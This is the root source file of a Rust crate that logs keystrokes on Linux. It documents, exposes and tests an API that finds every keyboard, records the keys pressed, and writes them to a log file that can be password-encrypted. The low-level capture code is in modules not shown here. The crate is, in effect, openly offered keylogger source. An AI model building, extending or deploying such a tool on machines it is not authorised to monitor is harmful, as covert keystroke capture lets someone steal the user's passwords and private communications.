//! This crate captures key presses from the keyboards of a Linux machine and writes their names to
//! a log file, optionally encrypted with a password.
//!
//! Keyboards are discovered with [`find_keyboards`] and handed to a [`CaptureLoop`], which waits on
//! all of them from a single thread and buffers the names of pressed keys in a [`LogCache`]. When
//! the process receives SIGINT or SIGTERM, the loop flushes the cache to its [`LogTarget`].
//! Encrypted logs use the `openssl enc` container format (see [`crypto`]) and can be opened with
//! [`decrypt_file`].
//!
//! # Example
//!
//! Log to `keylog.txt` until interrupted. Note this needs to run with root privileges.
//!
//! ```no_run
//! use keylog::{capture, install_shutdown_handlers, CaptureConfig, KeylogError};
//!
//! fn main() -> Result<(), KeylogError> {
//!     let run_state = install_shutdown_handlers()?;
//!
//!     capture(&CaptureConfig::default(), run_state)
//! }
//! ```

#[cfg(not(target_os = "linux"))]
compile_error!("This crate only works on Linux");

mod cache;
mod capture;
mod config;
pub mod crypto;
mod error;
pub mod key_code;
mod keyboard;
mod run_state;

pub use cache::{LogCache, LogTarget};
pub use capture::{CaptureLoop, CaptureState};
pub use config::{
    CaptureConfig, DEFAULT_CACHE_CAPACITY, DEFAULT_DEVICE_PREFIX, DEFAULT_INPUT_DIR,
    DEFAULT_LOG_PATH, DEFAULT_MAX_DEVICES,
};
pub use error::{CryptoError, KeylogError};
pub use key_code::key_name;
pub use keyboard::{find_keyboards, is_keyboard_name, CaptureHandle, KeyEvent, KeyEventCause};
pub use run_state::{install_shutdown_handlers, RunState};

use std::fs;
use std::path::Path;
use tracing::info;

pub type KeylogResult<T> = Result<T, KeylogError>;

/// Discover the keyboards described by `config` and log their key presses until `run_state`
/// is stopped.
pub fn capture(config: &CaptureConfig, run_state: &RunState) -> KeylogResult<()> {
    let keyboards = find_keyboards(
        &config.input_dir,
        &config.device_prefix,
        config.max_devices,
    )?;
    let target = config.log_target();

    let mut capture_loop = CaptureLoop::new(
        keyboards,
        LogCache::with_capacity(config.cache_capacity),
        target.clone(),
        run_state,
    )?;

    info!(
        path = %target.path().display(),
        encrypted = target.is_encrypted(),
        devices = capture_loop.devices().len(),
        "logging keystrokes"
    );

    capture_loop.run()
}

/// Decrypt the log at `input` and write the plaintext to `output`.
///
/// `output` is only created once decryption succeeded.
pub fn decrypt_file(input: &Path, output: &Path, password: &str) -> KeylogResult<()> {
    let envelope = fs::read(input)?;
    let plaintext = crypto::decrypt(&envelope, password)?;

    fs::write(output, &plaintext)?;
    info!(
        input = %input.display(),
        output = %output.display(),
        bytes = plaintext.len(),
        "log decrypted"
    );

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn decrypt_file_round_trip() {
        let dir = tempfile::tempdir().unwrap();
        let input = dir.path().join("keylog.enc");
        let output = dir.path().join("keylog.txt");
        fs::write(&input, crypto::encrypt(b"ESC\nQ\n", "secret")).unwrap();

        decrypt_file(&input, &output, "secret").unwrap();

        assert_eq!(fs::read(&output).unwrap(), b"ESC\nQ\n");
    }

    #[test]
    fn failed_decryption_writes_nothing() {
        let dir = tempfile::tempdir().unwrap();
        let input = dir.path().join("keylog.enc");
        let output = dir.path().join("keylog.txt");
        fs::write(&input, b"ESC\nQ\n").unwrap();

        let err = decrypt_file(&input, &output, "secret").unwrap_err();

        assert!(matches!(
            err,
            KeylogError::Crypto(CryptoError::InvalidFormat(_))
        ));
        assert!(!output.exists());
    }

    #[test]
    fn capture_needs_a_keyboard() {
        let dir = tempfile::tempdir().unwrap();
        let config = CaptureConfig {
            input_dir: dir.path().to_path_buf(),
            log_path: dir.path().join("keylog.txt"),
            ..Default::default()
        };

        let err = capture(&config, &RunState::new()).unwrap_err();

        assert!(matches!(err, KeylogError::NoDevicesFound));
        assert!(err.is_startup_fatal());
        assert!(!config.log_path.exists());
    }
}
